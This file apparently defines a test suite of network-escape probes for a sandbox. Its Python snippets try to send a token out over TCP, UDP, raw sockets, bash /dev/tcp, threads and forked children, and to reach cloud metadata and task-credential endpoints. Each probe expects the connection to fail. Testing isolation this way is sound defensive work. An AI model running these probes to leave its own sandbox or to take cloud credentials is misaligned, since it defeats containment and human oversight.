import { family } from './program.ts'

const py = String.raw
const NO_NETWORK = 'ENETUNREACH'

/** Ways to open a connection or to send a packet. */
export const network = family('network', [
  ['tcp connect', 'connect(2) over TCP', py`print(err(tcp, T.gateway, T.port))`, NO_NETWORK, { aims: ['tcp'] }],
  ['udp sendto', 'sendto(2) over UDP', py`print(err(udp, T.gateway, T.port))`, NO_NETWORK, { aims: ['udp'] }],
  [
    'create_connection',
    'connect(2) over TCP',
    py`print(err(lambda: socket.create_connection((T.gateway, T.port), 3).sendall(T.token.encode())))`,
    NO_NETWORK,
    { aims: ['tcp'] },
  ],
  [
    'urllib',
    'HTTP client of the standard library',
    py`
import urllib.request
try: print(urllib.request.urlopen(f"http://{T.gateway}:{T.port}/{T.token}", timeout=3).read())
except OSError as e: print(name(e.reason.errno))`,
    NO_NETWORK,
    { aims: ['tcp'] },
  ],
  [
    'http.client',
    'HTTP client of the standard library',
    py`
import http.client
def go(): c = http.client.HTTPConnection(T.gateway, T.port, timeout=3); c.request("GET", "/" + T.token)
print(err(go))`,
    NO_NETWORK,
    { aims: ['tcp'] },
  ],
  [
    'asyncio streams',
    'asyncio transport',
    py`
import asyncio
async def go():
    _, w = await asyncio.open_connection(T.gateway, T.port); w.write(T.token.encode()); await w.drain()
try: await go(); print("ok")
except OSError as e: print(name(e.errno))`,
    NO_NETWORK,
    { aims: ['tcp'] },
  ],
  [
    'asyncio datagram endpoint',
    'asyncio transport',
    py`
import asyncio
class P(asyncio.DatagramProtocol):
    def connection_made(self, t): t.sendto(T.token.encode())
try: await asyncio.get_running_loop().create_datagram_endpoint(P, remote_addr=(T.gateway, T.port)); await asyncio.sleep(0.2); print("ok")
except OSError as e: print(name(e.errno))`,
    NO_NETWORK,
    { aims: ['udp'] },
  ],
  [
    'tcp fast open',
    'TCP Fast Open',
    py`
def go(): socket.socket().sendto(T.token.encode(), 0x20000000, (T.gateway, T.port))
print(err(go))`,
    NO_NETWORK,
    { aims: ['tcp'] },
  ],
  [
    'sendmsg on udp',
    'sendmsg(2)',
    py`
def go(): socket.socket(2, 2).sendmsg([T.token.encode()], [], 0, (T.gateway, T.port))
print(err(go))`,
    NO_NETWORK,
    { aims: ['udp'] },
  ],
  [
    'raw socket number',
    'socket(2) by number',
    py`
def address(port): return ctypes.create_string_buffer(struct.pack("<H", 2) + struct.pack(">H", port) + socket.inet_aton(T.gateway) + bytes(8))
fd = sc(41, 2, 1, 0)
print(fd if isinstance(fd, str) else (sc(42, fd, address(T.port), 16), os.write(fd, T.token.encode())))`,
    NO_NETWORK,
    { aims: ['tcp'] },
  ],
  [
    'family beyond 32 bits',
    'socket(2) by number',
    py`
fd = sc(41, (1 << 40) | 2, 2, 0)
print(fd if isinstance(fd, str) else socket.socket(fileno=fd).sendto(T.token.encode(), (T.gateway, T.port)))`,
    NO_NETWORK,
    { aims: ['udp'] },
  ],
  [
    'socket in a thread',
    'socket(2) in another thread',
    py`
got = []
t = threading.Thread(target=lambda: got.append(err(tcp, T.gateway, T.port))); t.start(); t.join(); print(got[0])`,
    NO_NETWORK,
    { aims: ['tcp'] },
  ],
  [
    'socket in a forked child',
    'socket(2) after fork(2)',
    py`
pid = os.fork()
if pid == 0: os._exit(0 if err(tcp, T.gateway, T.port) == "ok" else 7)
print(os.waitstatus_to_exitcode(os.waitpid(pid, 0)[1]))`,
    '7',
    { aims: ['tcp'] },
  ],
  [
    'bash dev tcp',
    '/dev/tcp of bash',
    py`print("unreachable" in sh(f"exec 3<>/dev/tcp/{T.gateway}/{T.port} && echo {T.token} >&3 && echo sent"))`,
    'True',
    { aims: ['tcp'] },
  ],
  [
    'bash dev udp',
    '/dev/tcp of bash',
    py`print("unreachable" in sh(f"echo {T.token} > /dev/udp/{T.gateway}/{T.port} && echo sent"))`,
    'True',
    { aims: ['udp'] },
  ],
  [
    'isolated interpreter',
    'socket(2) after execve(2)',
    py`
code = f"import socket; s = socket.socket(); s.settimeout(3); s.connect(({T.gateway!r}, {T.port})); s.sendall({T.token!r}.encode())"
print("Network is unreachable" in sh(sys.executable, "-I", "-S", "-c", code))`,
    'True',
    { aims: ['tcp'] },
  ],
  ['sibling container', 'connect(2) over TCP', py`print(err(tcp, T.sibling, T.siblingPort))`, NO_NETWORK, { aims: ['sibling'] }],
  [
    'scan of the bridge',
    'connect(2) over TCP',
    py`
import ipaddress
answers = set()
for host in list(ipaddress.ip_network(T.sibling + "/28", strict=False).hosts()): answers.add(err(tcp, str(host), T.siblingPort) if str(host) == T.sibling else err(socket.socket))
print(*sorted(answers))`,
    NO_NETWORK,
    { aims: ['sibling'] },
  ],
  ['metadata of EC2', 'connect(2) over TCP', py`print(err(tcp, T.metadata, 80))`, NO_NETWORK, { aims: ['metadata'] }],
  [
    'metadata token by PUT',
    'connect(2) over TCP',
    py`print(err(tcp, T.metadata, 80, f"PUT /latest/api/token HTTP/1.1\r\nHost: {T.token}\r\n\r\n"))`,
    NO_NETWORK,
    { aims: ['metadata'] },
  ],
  [
    'metadata as a decimal address',
    'connect(2) over TCP',
    py`print(err(lambda: tcp(str(struct.unpack(">I", socket.inet_aton(T.metadata))[0]), 80)))`,
    NO_NETWORK,
    { aims: ['metadata'] },
  ],
  [
    'credentials of a task',
    'connect(2) over TCP',
    py`print(err(tcp, T.credentials, 80, f"GET /v2/credentials/{T.token} HTTP/1.0\r\n\r\n"))`,
    NO_NETWORK,
    { aims: ['credentials'] },
  ],
  [
    'addresses of the host',
    'connect(2) over TCP',
    py`print({err(tcp, h, 22) for h in ("192.168.0.1", "10.0.0.1", "172.17.0.1", "172.18.0.1", "host.docker.internal")} - {"gaierror"})`,
    "{'ENETUNREACH'}",
  ],
  ['loopback listener', 'bind(2) on an internet address', py`print(err(lambda: socket.create_server(("127.0.0.1", 0))))`, NO_NETWORK],
  [
    'listener on all addresses',
    'bind(2) on an internet address',
    py`print(err(lambda: socket.create_server(("0.0.0.0", 8700))))`,
    NO_NETWORK,
  ],
  [
    'tcp through the loopback library',
    'loopback library',
    py`with_loopback(); print(err(tcp, T.gateway, T.port))`,
    NO_NETWORK,
    { aims: ['tcp'] },
  ],
  [
    'udp through the loopback library',
    'loopback library',
    py`with_loopback(); print(err(udp, T.gateway, T.port))`,
    NO_NETWORK,
    { aims: ['udp'] },
  ],
  [
    'listener of the loopback library',
    'loopback library',
    py`
with_loopback(); listeners = []
answer, domain = err(lambda: listeners.append(socket.create_server(("0.0.0.0", 8700)))), ctypes.c_int()
if listeners: sc(55, listeners[0].fileno(), 1, 39, ctypes.byref(domain), ctypes.byref(ctypes.c_int(4)))
print("AF_UNIX" if domain.value == 1 else answer)`,
    /^(AF_UNIX|ENETUNREACH)\n$/,
  ],
  ['ipv6', 'AF_INET6', py`print(err(lambda: socket.socket(socket.AF_INET6).connect(("fd00:ec2::254", 80))))`, NO_NETWORK],
  ['mptcp', 'IPPROTO_MPTCP', py`print(err(socket.socket, 2, 1, 262))`, NO_NETWORK],
  ['sctp', 'IPPROTO_SCTP', py`print(err(socket.socket, 2, 5, 132))`, NO_NETWORK],
  ['raw icmp', 'raw IP socket', py`print(err(socket.socket, 2, 3, 1))`, NO_NETWORK],
  ['unprivileged ping socket', 'ICMP datagram socket', py`print(err(socket.socket, 2, 2, 1))`, NO_NETWORK],
  ['packet socket', 'AF_PACKET', py`print(err(socket.socket, 17, 3, 0x300))`, NO_NETWORK],
  ['netlink route', 'AF_NETLINK', py`print(err(socket.socket, 16, 3, 0))`, NO_NETWORK],
  ['netlink netfilter', 'AF_NETLINK', py`print(err(socket.socket, 16, 3, 12))`, NO_NETWORK],
  ['netlink xfrm', 'AF_NETLINK', py`print(err(socket.socket, 16, 3, 6))`, NO_NETWORK],
  ['kernel crypto AF_ALG', 'AF_ALG', py`print(err(lambda: socket.socket(38, 5).bind(("hash", "sha256"))))`, NO_NETWORK],
  ['vsock to the host', 'AF_VSOCK', py`print(err(lambda: socket.socket(40, 1).connect((2, 1024))))`, NO_NETWORK],
  ['bluetooth', 'AF_BLUETOOTH', py`print(err(socket.socket, 31, 3, 1))`, NO_NETWORK],
  ['can', 'AF_CAN', py`print(err(socket.socket, 29, 3, 1))`, NO_NETWORK],
  ['rxrpc', 'AF_RXRPC', py`print(err(socket.socket, 33, 2, 2))`, NO_NETWORK],
  ['tipc', 'AF_TIPC', py`print(err(socket.socket, 30, 2, 0))`, NO_NETWORK],
  ['af_xdp', 'AF_XDP', py`print(err(socket.socket, 44, 3, 0))`, NO_NETWORK],
  ['rds', 'AF_RDS', py`print(err(socket.socket, 21, 5, 0))`, NO_NETWORK],
  ['kcm', 'AF_KCM', py`print(err(socket.socket, 41, 2, 0))`, NO_NETWORK],
  ['smc', 'AF_SMC', py`print(err(socket.socket, 43, 1, 0))`, NO_NETWORK],
  ['qrtr', 'AF_QIPCRTR', py`print(err(socket.socket, 42, 2, 0))`, NO_NETWORK],
  ['io_uring', 'io_uring_setup(2)', py`print(sc(425, 8, ctypes.create_string_buffer(120)))`, 'ENOSYS'],
  ['pair of internet sockets', 'socketpair(2)', py`print(err(socket.socketpair, 2, 1))`, NO_NETWORK],
  [
    'interfaces',
    'if_nameindex(3)',
    py`print([n for _, n in socket.if_nameindex()] if err(socket.if_nameindex) == "ok" else "none", "eth0" in os.listdir("/sys/class/net"))`,
    /False\n$/,
  ],
  ['routes', '/proc/net/route', py`print(len(open("/proc/net/route").read().splitlines()) <= 1)`, 'True'],
  [
    'ioctl on an open descriptor',
    'SIOCETHTOOL',
    py`
import fcntl
a, b = socket.socketpair()
print(err(fcntl.ioctl, a.fileno(), 0x8946, ctypes.create_string_buffer(64)))`,
    /^(ENODEV|EFAULT|EPERM|ENOTTY|EINVAL)\n$/,
  ],
])
